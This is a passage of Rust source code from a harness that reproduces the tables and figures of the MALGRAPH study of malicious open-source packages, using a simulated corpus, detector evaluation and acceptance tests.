    /// indexed path also answers corpus lookups from the analysis index
    /// instead of a scan per consecutive-version pair.
    fn idn_rows(&self, top: usize) -> Vec<evolution::IdnRow> {
        match self.mode {
            AnalyzeMode::Indexed => evolution::idn_ranking_indexed(
                self.graph.analysis_index(&self.dataset),
                &self.dataset,
                &IndexedRegistry::new(&self.world),
                top,
            ),
            AnalyzeMode::Uncached => evolution::idn_ranking(&self.dataset, &self.world, top),
        }
    }

    /// Table I — source and size of the initial corpus.
    pub fn table1(&self) -> String {
        let counts = self.dataset.table1_counts();
        let mut out = header(
            "Table I — source and size of initial malicious packages",
            "paper: 14,422 unavailable / 9,003 available across 10 sources \
             (B.K 3,928/1,025 · Mal-PyPI 0/2,915 · Phylum 6,669/642 · Socket 664/0 …)",
        );
        let _ = writeln!(out, "{:<22} {:>12} {:>12}", "Data Source", "Unavail #", "Avail #");
        let mut total_u = 0usize;
        let mut total_a = 0usize;
        for source in SourceId::ALL {
            let &(available, unavailable) = counts.get(&source).unwrap_or(&(0, 0));
            let _ = writeln!(
                out,
                "{:<22} {:>12} {:>12}   [{}]",
                source.display_name(),
                unavailable,
                available,
                source.category()
            );
            total_u += unavailable;
            total_a += available;
        }
        let _ = writeln!(out, "{:<22} {:>12} {:>12}", "Total", total_u, total_a);
        out
    }

    /// Fig. 2 — release timeline of the corpus.
    pub fn fig2(&self) -> String {
        let mut out = header(
            "Fig. 2 — release timeline of the malicious packages",
            "paper: releases span 2018–2024, growing steeply through 2022–2023",
        );
        let buckets = malgraph_core::analysis::timeline::releases_per_quarter(&self.dataset, None);
        let max = buckets.values().max().copied().unwrap_or(1);
        for ((year, quarter), count) in &buckets {
            let bar = "#".repeat(1 + count * 40 / max);
            let _ = writeln!(out, "{year}-Q{quarter} {count:>6} {bar}");
        }
        let summary =
            malgraph_core::analysis::timeline::summarize(&buckets);
        let _ = writeln!(
            out,
            "span {:?} → {:?}, peak {:?}, {:.0}% of releases in 2022+",
            summary.first,
            summary.last,
            summary.peak,
            100.0 * summary.recent_fraction
        );
        out
    }

    /// Fig. 3 — one example MALGRAPH group, rendered as DOT.
    pub fn fig3(&self) -> String {
        let mut out = header(
            "Fig. 3 — example MALGRAPH malicious-package group (DOT)",
            "paper: a group mixing duplicated/similar/co-existing edges",
        );
        // Pick a medium co-existing group so the rendering stays legible.
        let groups = self.groups(Relation::Coexisting);
        let group = groups
            .iter()
            .filter(|g| (4..=12).contains(&g.len()))
            .max_by_key(|g| g.len())
            .or_else(|| groups.first());
        match group {
            Some(group) => out.push_str(&malgraph_core::group_to_dot(&self.graph, group)),
            None => out.push_str("(no co-existing group in this corpus)\n"),
        }
        out
    }

    /// Table II — node/edge/degree statistics of the four relation graphs.
    pub fn table2(&self) -> String {
        let mut out = header(
            "Table II — the detailed information of MALGRAPH",
            "paper: DG 2,475 nodes / 316,122 edges (127.7) · DeG 28/16 (0.57) · \
             SG 6,320 / 5,343,792 (845.5) · CG 2,941 / 575,406 (195.7)",
        );
        let _ = writeln!(
            out,
            "{:<5} {:>8} {:>12} {:>14} {:>13}",
            "", "Node", "Edge", "Ave.OutDeg", "Ave.InDeg"
        );
        let rows = match self.mode {
            AnalyzeMode::Indexed => diversity::table2(&self.graph),
            AnalyzeMode::Uncached => diversity::table2_reference(&self.graph),
        };
        for row in rows {
            let _ = writeln!(
                out,
                "{:<5} {:>8} {:>12} {:>14.2} {:>13.2}",
                row.relation.group_label(),
                row.nodes,
                row.edges,
                row.avg_out_degree,
                row.avg_in_degree
            );
        }
        out
    }

    /// Table III — the security-report corpus.
    pub fn table3(&self) -> String {
        let mut out = header(
            "Table III — source of security analysis reports",
            "paper: 68 websites, 1,366 reports (Tech community 16/516 · \
             Commercial 15/545 · News 4/143 · Individual 3/95 · Official 1/24 · Other 29/43)",
        );
        let mut by_cat: std::collections::BTreeMap<&'static str, (usize, usize)> =
            Default::default();
        let mut sites_seen: std::collections::HashSet<&str> = Default::default();
        for report in &self.dataset.reports {
            let entry = by_cat.entry(report.category.display_name()).or_default();
            entry.1 += 1;
            if sites_seen.insert(report.website.as_str()) {
                entry.0 += 1;
            }
        }
        let _ = writeln!(out, "{:<22} {:>9} {:>9}", "Category", "Website#", "Report#");
        let mut tw = 0usize;
        let mut tr = 0usize;
        for (cat, (w, r)) in &by_cat {
            let _ = writeln!(out, "{cat:<22} {w:>9} {r:>9}");
            tw += w;
            tr += r;
        }
        let _ = writeln!(out, "{:<22} {:>9} {:>9}", "Total", tw, tr);
        out
    }

    /// Table IV — the 10×10 source overlap matrix.
    pub fn table4(&self) -> String {
        let mut out = header(
            "Table IV — the overlapping matrix of all sources",
            "paper: academia↔academia overlap high (B.K↔M.D 1,348), industry↔industry \
             low (max T.↔P. 539, next S.i↔T. 244); most cells ≈ 0",
        );
        let matrix = overlap::overlap_matrix(&self.dataset);
        out.push_str(&matrix.render());
        use oss_types::SourceCategory::{Academia, Industry};
        let _ = writeln!(
            out,
            "mean pairwise overlap: academia↔academia {:.1}, academia↔industry {:.1}, \
             industry↔industry {:.1}",
            overlap::category_mean_overlap(&matrix, Academia, Academia),
            overlap::category_mean_overlap(&matrix, Academia, Industry),
            overlap::category_mean_overlap(&matrix, Industry, Industry),
        );
        out
    }

    /// Fig. 4 — CDF of DG size per ecosystem.
    pub fn fig4(&self) -> String {
        let mut out = header(
            "Fig. 4 — CDF of DG size among NPM, PyPI and RubyGems",
            "paper: ~80% of packages reported by one source; ~10% by more than three",
        );
        for eco in [Ecosystem::Npm, Ecosystem::PyPI, Ecosystem::RubyGems] {
            let cdf = overlap::dg_size_cdf(&self.dataset, eco);
            let series: Vec<String> = cdf
                .iter()
                .map(|(size, frac)| format!("({size}, {frac:.3})"))
                .collect();
            let _ = writeln!(out, "{:<9} {}", eco.display_name(), series.join(" "));
        }
        out
    }

    /// Table V — update frequency per source.
    pub fn table5(&self) -> String {
        let mut out = header(
            "Table V — the update frequency of different online sources",
            "paper: academia rarely updates (B.K/Mal-PyPI never); industry monthly-ish",
        );
        let _ = writeln!(
            out,
            "{:<22} {:>12} {:>18} {:>14} {:>12}",
            "Source", "Last update", "Doc. frequency", "Active months", "Median gap"
        );
        for row in quality::update_frequency(&self.dataset) {
            let last = row
                .last_update
                .map(|t| {
                    let (y, m, _) = t.to_ymd();
                    format!("{y:04}-{m:02}")
                })
                .unwrap_or_else(|| "—".into());
            let _ = writeln!(
                out,
                "{:<22} {:>12} {:>18} {:>14} {:>10.1}d",
                row.source.display_name(),
                last,
                row.frequency,
                row.active_months,
                row.median_gap_days
            );
        }
        out
    }

    /// Table VI — missing rates.
    pub fn table6(&self) -> String {
        let mut out = header(
            "Table VI — the missing rate of all sources",
            "paper: Socket 100% · Blogs 95.2% · G.A 92.7% · Phylum 91.2% · B.K 79.3% · \
             Snyk 75.2% · Tianwen 55.4% · dumps 0% — overall 64.14%",
        );
        let (rows, overall) = quality::missing_rates(&self.dataset);
        let _ = writeln!(
            out,
            "{:<22} {:>16} {:>11} {:>9}",
            "Source", "Missing(Total)", "Single MR", "All MR"
        );
        for row in rows {
            let _ = writeln!(
                out,
                "{:<22} {:>7} ({:>6}) {:>10.2}% {:>8.2}%",
                row.source.display_name(),
                row.missing,
                row.total,
                row.single_mr_pct,
                row.all_mr_pct
            );
        }
        let _ = writeln!(out, "Overall missing rate: {overall:.2}% (paper: 64.14%)");
        out
    }

    /// Fig. 5 — the two causes of unavailability, plus a retention sweep.
    pub fn fig5(&self) -> String {
        let mut out = header(
            "Fig. 5 — why malicious packages cannot be obtained from mirrors",
            "paper: (1) released too early — mirrors reconciled the deletion; \
             (2) persistence too short — removed before any sync",
        );
        let fastest = self
            .world
            .mirrors
            .fastest_interval(Ecosystem::PyPI)
            .map(|d| d.as_hours())
            .unwrap_or(6);
        let census = quality::unavailability_census(
            &self.dataset,
            self.world.config.mirror_retention_days,
            fastest,
        );
        let _ = writeln!(out, "released too early:     {:>6}", census.released_too_early);
        let _ = writeln!(out, "persistence too short:  {:>6}", census.persistence_too_short);
        let _ = writeln!(out, "ecosystem has no mirror:{:>6}", census.no_mirrors);
        let _ = writeln!(out, "indeterminate:          {:>6}", census.unknown);
        // Mechanism sweep: shorter retention ⇒ more "released too early".
        let _ = writeln!(out, "\nretention sweep (small worlds, seed fixed):");
        let _ = writeln!(out, "{:>10} {:>12} {:>12}", "retention", "available", "missing%");
        for retention in [120u64, 240, 400, 600, 900] {
            let config = WorldConfig {
                seed: 9,
                mirror_retention_days: retention,
                ..WorldConfig::default()
            };
            let world = World::generate(config);
            let candidates = world.dataset_candidates();
            let avail = candidates
                .iter()
                .filter(|&&i| world.package(i).mirror_available)
                .count();
            let missing_pct = 100.0 * (candidates.len() - avail) as f64 / candidates.len() as f64;
            let _ = writeln!(out, "{:>9}d {:>12} {:>11.1}%", retention, avail, missing_pct);
        }
        out
    }

    /// Table VII — group diversity per ecosystem.
    pub fn table7(&self) -> String {
        let mut out = header(
            "Table VII — the overall group diversity",
            "paper: NPM SG 76 (17.78) DeG 11 (2.36) CG 50 (46.1) · \
             PyPI SG 36 (137.17) DeG 1 (2) CG 26 (22.69) · RubyGems SG 4 (7.75) DeG 0 CG 6 (7.67)",
        );
        let _ = writeln!(
            out,
            "{:<9} {:>16} {:>16} {:>16}",
            "OSS", "SG #(Ave.)", "DeG #(Ave.)", "CG #(Ave.)"
        );
        let rows = match self.mode {
            AnalyzeMode::Indexed => diversity::table7(&self.graph),
            AnalyzeMode::Uncached => diversity::table7_reference(&self.graph),
        };
        for row in rows {
            let cell = |c: &diversity::DiversityCell| format!("{} ({:.2})", c.groups, c.avg_size);
            let _ = writeln!(
                out,
                "{:<9} {:>16} {:>16} {:>16}",
                row.ecosystem.display_name(),
                cell(&row.sg),
                cell(&row.deg),
                cell(&row.cg)
            );
        }
        out
    }

    /// Fig. 6 — life-cycle statistics.
    pub fn fig6(&self) -> String {
        let mut out = header(
            "Fig. 6 — the life cycle of a malicious package",
            "paper: {changing→release→detection→removal} repeats; removal is fast",
        );
        let stats = campaign::lifecycle_stats(&self.dataset);
        let _ = writeln!(out, "packages with full life-cycle metadata: {}", stats.measured);
        let _ = writeln!(
            out,
            "persistence (release→removal): median {:.1}h, p90 {:.1}h",
            stats.median_persistence_hours, stats.p90_persistence_hours
        );
        let _ = writeln!(
            out,
            "removed within 24h of release: {:.1}%",
            100.0 * stats.removed_within_day
        );
        // One concrete cycle, reconstructed from the corpus: a similar
        // group's first two attempts show {release → removal → changing →
        // re-release}.
        let sequences = self.release_sequences();
        if let Some(seq) = sequences.iter().find(|s| {
            s.len() >= 2 && s[0].meta.is_some_and(|m| m.removed.is_some())
        }) {
            let first = seq[0];
            let second = seq[1];
            let meta = first.meta.expect("checked");
            let _ = writeln!(out, "
example cycle:");
            let _ = writeln!(out, "  release   {}  at {}", first.id, meta.released);
            if let Some(removed) = meta.removed {
                let _ = writeln!(
                    out,
                    "  detection/removal        after {}",
                    removed - meta.released
                );
            }
            let ops = evolution::detect_change(
                &first.id,
                first.archive.as_ref(),
                &second.id,
                second.archive.as_ref(),
            );
            let _ = writeln!(out, "  changing  {}", ops.ops);
            if let Some(meta2) = second.meta {
                let _ = writeln!(out, "  re-release {} at {}", second.id, meta2.released);
            }
        }
        out
    }

    /// Fig. 7 — a dependency-attack walkthrough from the corpus.
    pub fn fig7(&self) -> String {
        let mut out = header(
            "Fig. 7 — the attack based on the dependency library",
            "paper: the front package looks benign; installing it pulls the malicious dependency",
        );
        let groups = self.groups(Relation::Dependency);
        let Some(group) = groups.first() else {
            out.push_str("(no dependency group in this corpus)\n");
            return out;
        };
        // Orient the story: the node with an outgoing Dependency edge is
        // the front; the target is the hidden library.
        for &node_id in group {
            let node = self.graph.graph.node(node_id);
            for &(target, label) in self.graph.graph.out_edges(node_id) {
                if label == Relation::Dependency {
                    let lib = self.graph.graph.node(target);
                    let _ = writeln!(
                        out,
                        "front   {}  --declares dependency-->  library {}",
                        node.package, lib.package
                    );
                    let _ = writeln!(
                        out,
                        "install of the front auto-downloads the library; \
                         the payload runs from the library's install hook"
                    );
                }
            }
        }
        out
    }

    /// Fig. 8 — the August-2023 npm campaign timeline.
    pub fn fig8(&self) -> String {
        let mut out = header(
            "Fig. 8 — subsequent malicious packages released in npm, August 2023",
            "paper: 1 package on Aug 9; 6 similar by Aug 12; most recently cloud-layout, \
             urs-remote, etc-crypto, mh-web-hardware, mall-front-babel-directive (15 total)",
        );
        let member: PackageId = "npm/etc-crypto@1.0.0".parse().expect("valid id");
        let timeline = self.campaign_timeline(&member);
        if timeline.is_empty() {
            out.push_str("(showcase campaign not present at this scale)\n");
            return out;
        }
        for entry in &timeline {
            let (y, m, d) = entry.released.to_ymd();
            let _ = writeln!(out, "{y:04}-{m:02}-{d:02}  {}", entry.package);
        }
        let _ = writeln!(out, "total: {} packages", timeline.len());
        out
    }

    /// Fig. 9 — CDF of active periods per group type.
    pub fn fig9(&self) -> String {
        let mut out = header(
            "Fig. 9 — the active period of CG, DeG and SG groups",
            "paper: 80% SG within days · 80% CG within a year · DeG longest (≈3 years)",
        );
        for relation in [Relation::Similar, Relation::Coexisting, Relation::Dependency] {
            let periods = self.active_periods(relation);
            if periods.is_empty() {
                let _ = writeln!(out, "{:<4} (no groups)", relation.group_label());
                continue;
            }
            let _ = writeln!(
                out,
                "{:<4} groups {:>5} · ≤7d {:>5.1}% · ≤90d {:>5.1}% · ≤1y {:>5.1}% · ≤3y {:>5.1}%",
                relation.group_label(),
                periods.len(),
                100.0 * campaign::fraction_within(&periods, SimDuration::days(7)),
                100.0 * campaign::fraction_within(&periods, SimDuration::days(90)),
                100.0 * campaign::fraction_within(&periods, SimDuration::years(1)),
                100.0 * campaign::fraction_within(&periods, SimDuration::years(3)),
            );
        }
        out
    }

    /// Fig. 10 — one campaign's release attempts with operations and
    /// download counts.
    pub fn fig10(&self) -> String {
        let mut out = header(
            "Fig. 10 — an attack campaign in the timeline (release attempts, ops, downloads)",
            "paper: each attempt applies a changing operation and accrues downloads until removal",
        );
        let sequences = self.release_sequences();
        let Some(seq) = sequences
            .iter()
            .filter(|s| (5..=25).contains(&s.len()))
            .max_by_key(|s| s.len())
            .or_else(|| sequences.first())
        else {
            out.push_str("(no similar group in this corpus)\n");
            return out;
        };
        let _ = writeln!(out, "{:<3} {:<40} {:<22} {:>9}", "i", "package", "op_i (detected)", "n_i");
        for (i, pair) in std::iter::once(None)
            .chain(seq.windows(2).map(Some))
            .enumerate()
            .take(seq.len())
        {
            let pkg = seq[i];
            let ops = match pair {
                None => "—".to_string(),
                Some(w) => evolution::detect_change(
                    &w[0].id,
                    w[0].archive.as_ref(),
                    &w[1].id,
                    w[1].archive.as_ref(),
                )
                .ops
                .to_string(),
            };
            let downloads = pkg.meta.map(|m| m.downloads).unwrap_or(0);
            let _ = writeln!(out, "{:<3} {:<40} {:<22} {:>9}", i, pkg.id.to_string(), ops, downloads);
        }
        out
    }

    /// Fig. 11 — download evolution box plot.
    pub fn fig11(&self) -> String {
        let mut out = header(
            "Fig. 11 — the box plot of download evolution",
            "paper: most attempts 0–1 downloads; a minority 10–40; outliers in the millions",
        );
        let sequences = self.release_sequences();
        // SG series plus version lineages — the lineages contribute the
        // popular-package outliers the paper calls out.
        let mut series: Vec<Vec<u64>> = sequences
            .iter()
            .map(|seq| seq.iter().filter_map(|p| p.meta.map(|m| m.downloads)).collect())
            .collect();
        series.extend(self.lineage_series());
        let boxes = evolution::download_evolution_from_series(&series, 10);
        let _ = writeln!(
            out,
            "{:>5} {:>6} {:>8} {:>8} {:>8} {:>8} {:>12}",
            "order", "n", "min", "q1", "median", "q3", "max"
        );
        for b in boxes {
            let _ = writeln!(
                out,
                "{:>5} {:>6} {:>8} {:>8} {:>8} {:>8} {:>12}",
                b.order, b.n, b.min, b.q1, b.median, b.q3, b.max
            );
        }
        out
    }

    /// Fig. 12 — the changing-operation distribution.
    pub fn fig12(&self) -> String {
        let mut out = header(
            "Fig. 12 — the operation distribution",
            "paper: CN 98.92% · CC 39.76% · CV and CDep rare · CC changes ≈3.7 lines",
        );
        let sequences = self.release_sequences();
        let dist = evolution::op_distribution(&sequences);
        let _ = writeln!(out, "re-release attempts analysed: {}", dist.attempts);
        for op in ChangeOp::ALL {
            let _ = writeln!(out, "{:<5} {:>6.2}%", op.label(), dist.pct_of(op));
        }
        let _ = writeln!(out, "mean changed lines per CC: {:.2} (paper: 3.7)", dist.mean_cc_lines);
        out
    }

    /// Table VIII — top-10 increasing download numbers with operations.
    pub fn table8(&self) -> String {
        let mut out = header(
            "Table VIII — top-10 increasing download number with the operation",
            "paper: top IDN 66,092,932 with (CDep, CD, CN, CC); multi-op trojan lineages dominate",
        );
        let rows = self.idn_rows(10);
        let _ = writeln!(out, "{:>12}  {:<24} package", "IDN", "Operation");
        for row in rows {
            let _ = writeln!(
                out,
                "{:>12}  {:<24} {}",
                row.idn,
                row.ops.to_string(),
                row.package
            );
        }
        out
    }

    /// Extension experiment — detector evaluation. The paper *asserts*
    /// that "today's defense tools work well because malicious packages
    /// use old and known attack behaviors" (finding 2); the simulator's
    /// ground truth lets the reproduction measure it.
    pub fn detection(&self) -> String {
        let mut out = header(
            "Extension — static & sandbox detector evaluation (paper finding 2, quantified)",
            "paper: known behaviours ⇒ existing tools detect them easily; no numbers given",
        );
        // The sandbox verdict depends only on the source text, and
        // campaign re-releases duplicate code heavily — one shared cache
        // covers the world evaluation and the archive census (the
        // archives' code strings all appear among the world sources).
        let (report, census) = match self.mode {
            AnalyzeMode::Indexed => {
                let mut cache = detector::SandboxCache::default();
                let report = detector::evaluate_world_cached(&self.world, &mut cache);
                let census =
                    self.behaviour_census(|code| cache.run(code).verdict.labels.clone());
                (report, census)
            }
            AnalyzeMode::Uncached => {
                let report = detector::evaluate_world(&self.world);
                let sandbox = detector::DynamicDetector::default();
                let census = self.behaviour_census(|code| sandbox.analyze_source(code).labels);
                (report, census)
            }
        };
        let _ = writeln!(out, "{report}");
        let _ = writeln!(out, "
behaviour census over recovered archives:");
        for (label, count) in census {
            let _ = writeln!(out, "  {label:<18} {count:>6}");
        }
        out
    }

    /// Behaviour census of the *collected* corpus: what an analyst
    /// running the sandbox over every recovered archive would see.
    fn behaviour_census(
        &self,
        mut verdict: impl FnMut(&str) -> Vec<detector::BehaviorLabel>,
    ) -> std::collections::BTreeMap<String, usize> {
        let mut census: std::collections::BTreeMap<String, usize> = Default::default();
        for pkg in &self.dataset.packages {
            if let Some(archive) = &pkg.archive {
                for label in verdict(&archive.code) {
                    *census.entry(label.to_string()).or_default() += 1;
                }
            }
        }
        census
    }

    /// Extension experiment — typosquat targeting census.
    pub fn typosquat(&self) -> String {
        let mut out = header(
            "Extension — typosquat targeting (§V: 'the most popular attack vector')",
            "which legitimate packages the corpus impersonates, by edit distance ≤ 2",
        );
        let census = match self.mode {
            AnalyzeMode::Indexed => typosquat::typosquat_census_indexed(
                self.graph.analysis_index(&self.dataset),
                &self.dataset,
                None,
            ),
            AnalyzeMode::Uncached => typosquat::typosquat_census(&self.dataset, None),
        };
        let _ = writeln!(
            out,
            "{} of {} corpus packages squat a popular name ({:.1}%)",
            census.squatting_packages,
            census.total_packages,
            100.0 * census.squat_rate()
        );
        for row in census.rows.iter().take(10) {
            let _ = writeln!(out, "  {:<12} {:>5}", row.target, row.squatters);
        }
        out
    }

    /// Extension experiment — scaling check: Table II absolute counts
    /// grow with the corpus while the shape (SG densest, DeG tiny) holds,
    /// which is why the reproduction matches shapes rather than absolute
    /// edge counts.
    pub fn scaling(&self) -> String {
        let mut out = header(
            "Extension — Table II counts across corpus scales",
            "absolute counts are scale-dependent; the relation ordering is not",
        );
        let _ = writeln!(
            out,
            "{:>6} {:>10} {:>10} {:>10} {:>10}",
            "scale", "DG edges", "DeG edges", "SG edges", "CG edges"
        );
        const SCALES: [f64; 3] = [0.02, 0.05, 0.10];
        let edge_row = |repro: &Repro| -> Vec<usize> {
            Relation::ALL
                .iter()
                .map(|&r| match repro.mode {
                    AnalyzeMode::Indexed => repro.graph.relation_stats(r).edges,
                    AnalyzeMode::Uncached => {
                        graphstore::stats::RelationStats::compute(&repro.graph.graph, |l| {
                            *l == r
                        })
                        .edges
                    }
                })
                .collect()
        };
        let rows: Vec<Vec<usize>> = match self.mode {
            // The three sub-worlds are independent of each other and of
            // `self` — build them concurrently and assemble in scale
            // order, so the report bytes never depend on which finishes
            // first.
            AnalyzeMode::Indexed => std::thread::scope(|scope| {
                let handles: Vec<_> = SCALES
                    .iter()
                    .map(|&scale| {
                        scope.spawn(move || {
                            let repro = Repro::with_mode(7, scale, AnalyzeMode::Indexed);
                            edge_row(&repro)
                        })
                    })
                    .collect();
                handles
                    .into_iter()
                    .map(|h| h.join().expect("scaling sub-world worker panicked"))
                    .collect()
            }),
            AnalyzeMode::Uncached => SCALES
                .iter()
                .map(|&scale| edge_row(&Repro::with_mode(7, scale, AnalyzeMode::Uncached)))
                .collect(),
        };
        for (scale, row) in SCALES.iter().zip(rows) {
            let _ = writeln!(
                out,
                "{:>6} {:>10} {:>10} {:>10} {:>10}",
                scale, row[0], row[1], row[2], row[3]
            );
        }
        out
    }

    /// Validation extras beyond the paper: similarity-pipeline quality
    /// against the simulator's ground-truth campaigns.
    pub fn validation(&self) -> String {
        let mut out = header(
            "Validation — SG recovery vs. ground-truth campaigns (beyond the paper)",
            "the paper had no ground truth for the similar relation (§III-C); the simulator does",
        );
        // Adjusted Rand index between SG membership and true campaigns,
        // over packages that appear in some SG.
        let mut labels_true: Vec<usize> = Vec::new();
        let mut labels_sg: Vec<usize> = Vec::new();
        // One id → campaign map replaces a linear `find` over the world
        // per SG member (first occurrence wins, matching `find`).
        let campaign_of: Option<HashMap<&PackageId, usize>> = match self.mode {
            AnalyzeMode::Indexed => {
                let mut map = HashMap::with_capacity(self.world.packages.len());
                for p in &self.world.packages {
                    map.entry(&p.id)
                        .or_insert_with(|| p.campaign.map(|c| c.index() + 1).unwrap_or(0));
                }
                Some(map)
            }
            AnalyzeMode::Uncached => None,
        };
        for (gi, group) in self.groups(Relation::Similar).iter().enumerate() {
            for &node in group {
                let pkg_id = &self.graph.graph.node(node).package;
                let truth = match &campaign_of {
                    Some(map) => map.get(pkg_id).copied().unwrap_or(0),
                    None => self
                        .world
                        .packages
                        .iter()
                        .find(|p| &p.id == pkg_id)
                        .and_then(|p| p.campaign.map(|c| c.index() + 1))
                        .unwrap_or(0),
                };
                labels_true.push(truth);
                labels_sg.push(gi + 1);
            }
        }
        if labels_true.len() > 1 {
            let ari = cluster::metrics::adjusted_rand_index(&labels_true, &labels_sg);
            let _ = writeln!(out, "packages in SGs: {}", labels_true.len());
            let _ = writeln!(out, "adjusted Rand index vs. true campaigns: {ari:.3}");
        } else {
            let _ = writeln!(out, "(not enough SG members for validation)");
        }
        for (eco, diag) in &self.graph.similarity_diagnostics {
            let _ = writeln!(
                out,
                "{:<9} chosen k = {} (schedule tried {} values)",
                eco.display_name(),
                diag.chosen_k,
                diag.trace.len()
            );
        }
        out
    }
}

/// One pass/fail comparison against a paper-derived acceptance band.
#[derive(Debug, Clone)]
pub struct Check {
    /// What is being checked.
    pub name: &'static str,
    /// Whether the measured value satisfied the band.
    pub pass: bool,
    /// Measured value and band, human-readable.
    pub detail: String,
}

impl Repro {
    /// Programmatic acceptance checks: the headline findings of the paper
    /// as machine-verifiable bands over this run's measurements. Used by
    /// `repro --check` and the release test-suite.
    pub fn checks(&self) -> Vec<Check> {
        let mut out = Vec::new();
        let mut push = |name: &'static str, pass: bool, detail: String| {
            out.push(Check { name, pass, detail });
        };

        // RQ1 — overlap structure.
        let matrix = overlap::overlap_matrix(&self.dataset);
        use oss_types::SourceCategory::{Academia, Industry};
        let aa = overlap::category_mean_overlap(&matrix, Academia, Academia);
        let ii = overlap::category_mean_overlap(&matrix, Industry, Industry);
        push(
            "academia overlap exceeds industry overlap",
            aa > ii,
            format!("academia {aa:.1} vs industry {ii:.1}"),
        );
        let cdf = overlap::dg_size_cdf(&self.dataset, Ecosystem::PyPI);
        let single = cdf.first().map(|&(_, f)| f).unwrap_or(0.0);
        push(
            "most packages are single-source (Fig. 4 ≈80%)",
            single > 0.6,
            format!("single-source fraction {single:.2}"),
        );

        // RQ1 — missing rates.
        let (rows, overall) = quality::missing_rates(&self.dataset);
        push(
            "overall missing rate near the paper's 64%",
            (40.0..80.0).contains(&overall),
            format!("measured {overall:.1}% (band 40–80)"),
        );
        let dumps_clean = rows
            .iter()
            .filter(|r| {
                matches!(
                    r.source,
                    SourceId::Maloss | SourceId::MalPyPI | SourceId::DataDog
                )
            })
            .all(|r| r.single_mr_pct == 0.0);
        push("dataset dumps have 0% missing rate", dumps_clean, String::new());

        // RQ2 — diversity shape.
        let rows7 = diversity::table7(&self.graph);
        let npm = rows7.iter().find(|r| r.ecosystem == Ecosystem::Npm);
        let pypi = rows7.iter().find(|r| r.ecosystem == Ecosystem::PyPI);
        if let (Some(npm), Some(pypi)) = (npm, pypi) {
            push(
                "PyPI SG groups larger than NPM on average (flood)",
                pypi.sg.avg_size > npm.sg.avg_size,
                format!("PyPI {:.1} vs NPM {:.1}", pypi.sg.avg_size, npm.sg.avg_size),
            );
            push(
                "DeG groups stay tiny (≈2 packages)",
                npm.deg.groups == 0 || npm.deg.avg_size <= 4.0,
                format!("NPM DeG mean {:.1}", npm.deg.avg_size),
            );
        }
        let t2 = diversity::table2(&self.graph);
        let sg_deg = t2
            .iter()
            .find(|r| r.relation == Relation::Similar)
            .map(|r| r.avg_out_degree)
            .unwrap_or(0.0);
        let densest = t2.iter().all(|r| r.avg_out_degree <= sg_deg);
        push("SG is the densest relation graph (Table II shape)", densest, String::new());

        // RQ3 — active periods.
        let sg = self.active_periods(Relation::Similar);
        let deg = self.active_periods(Relation::Dependency);
        let mean =
            |v: &[SimDuration]| v.iter().map(|d| d.as_days_f64()).sum::<f64>() / v.len().max(1) as f64;
        push(
            "DeG campaigns far outlast SG campaigns (Fig. 9)",
            !deg.is_empty() && mean(&deg) > mean(&sg) * 3.0,
            format!("DeG {:.0}d vs SG {:.0}d", mean(&deg), mean(&sg)),
        );
        let member: PackageId = "npm/etc-crypto@1.0.0".parse().expect("valid");
        let timeline = self.campaign_timeline(&member);
        push(
            "the Fig.-8 showcase campaign reconstructs with 15 packages",
            timeline.len() == 15,
            format!("found {}", timeline.len()),
        );

        // RQ4 — operations and downloads.
        let sequences = self.release_sequences();
        let dist = evolution::op_distribution(&sequences);
        push(
            "CN dominates re-releases (Fig. 12 ≈98.9%)",
            dist.pct_of(ChangeOp::ChangeName) > 90.0,
            format!("CN {:.1}%", dist.pct_of(ChangeOp::ChangeName)),
        );
        push(
            "CV and CDep are rare (Fig. 12)",
            dist.pct_of(ChangeOp::ChangeVersion) < 10.0
                && dist.pct_of(ChangeOp::ChangeDependency) < 10.0,
            format!(
                "CV {:.1}%, CDep {:.1}%",
                dist.pct_of(ChangeOp::ChangeVersion),
                dist.pct_of(ChangeOp::ChangeDependency)
            ),
        );
        push(
            "CC diffs are small (paper ≈3.7 lines)",
            dist.mean_cc_lines > 0.5 && dist.mean_cc_lines < 12.0,
            format!("mean {:.1} lines", dist.mean_cc_lines),
        );
        let idn = self.idn_rows(10);
        push(
            "top IDN is a large trojan lineage (Table VIII)",
            idn.first().is_some_and(|r| r.idn > 1_000_000),
            format!("top IDN {}", idn.first().map(|r| r.idn).unwrap_or(0)),
        );
        out
    }
}

fn header(title: &str, paper: &str) -> String {
    format!("== {title}\n   [{paper}]\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn repro() -> Repro {
        Repro::new(5, 0.05)
    }

    #[test]
    fn every_experiment_runs_and_reports() {
        let r = repro();
        for id in EXPERIMENTS {
            let out = r.run(id);
            assert!(out.starts_with("== "), "{id} lacks a header");
            assert!(out.len() > 80, "{id} output suspiciously short:\n{out}");
        }
    }

    #[test]
    #[should_panic(expected = "unknown experiment")]
    fn unknown_id_panics() {
        repro().run("table99");
    }

    #[test]
    fn validation_reports_ari() {
        let out = repro().validation();
        assert!(out.contains("adjusted Rand index"));
    }

    #[test]
    fn extension_sections_render() {
        let r = repro();
        assert!(r.detection().contains("precision"));
        assert!(r.typosquat().contains("squat"));
    }

    #[test]
    fn run_all_parallel_matches_serial() {
        // A handful of cheap sections is enough to exercise the claim
        // loop, slot assembly and concurrent first-touch of the caches.
        let ids = ["table2", "fig3", "fig9", "table7", "validation"];
        let r = repro();
        let serial = r.run_all(&ids, 1);
        let parallel = r.run_all(&ids, ids.len());
        assert_eq!(serial, parallel);
        // Oversubscribing beyond the id count must clamp, not panic.
        assert_eq!(r.run_all(&ids, 64), serial);
    }

    #[test]
    fn uncached_mode_matches_indexed_sections() {
        let indexed = repro();
        let uncached = Repro::with_mode(5, 0.05, AnalyzeMode::Uncached);
        for id in ["fig3", "fig9", "table2", "validation", "typosquat"] {
            assert_eq!(indexed.run(id), uncached.run(id), "{id} diverged");
        }
    }

    #[test]
    fn acceptance_checks_pass_at_test_scale() {
        let r = repro();
        let checks = r.checks();
        assert!(checks.len() >= 10);
        let failures: Vec<String> = checks
            .iter()
            .filter(|c| !c.pass)
            .map(|c| format!("{}: {}", c.name, c.detail))
            .collect();
        assert!(failures.is_empty(), "failed checks:\n{}", failures.join("\n"));
    }
}
