//! Benchmark & reproduction harness for the MALGRAPH paper.
//!
//! * [`harness`] — regenerates every table and figure of the paper's
//!   evaluation from a calibrated simulated world (`repro` binary);
//! * `benches/` — Criterion performance benches for the pipeline stages
//!   and the design-choice ablations listed in `DESIGN.md`.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod harness;

pub use harness::{AnalyzeMode, Repro, StageTimings, EXPERIMENTS, EXTENSIONS};
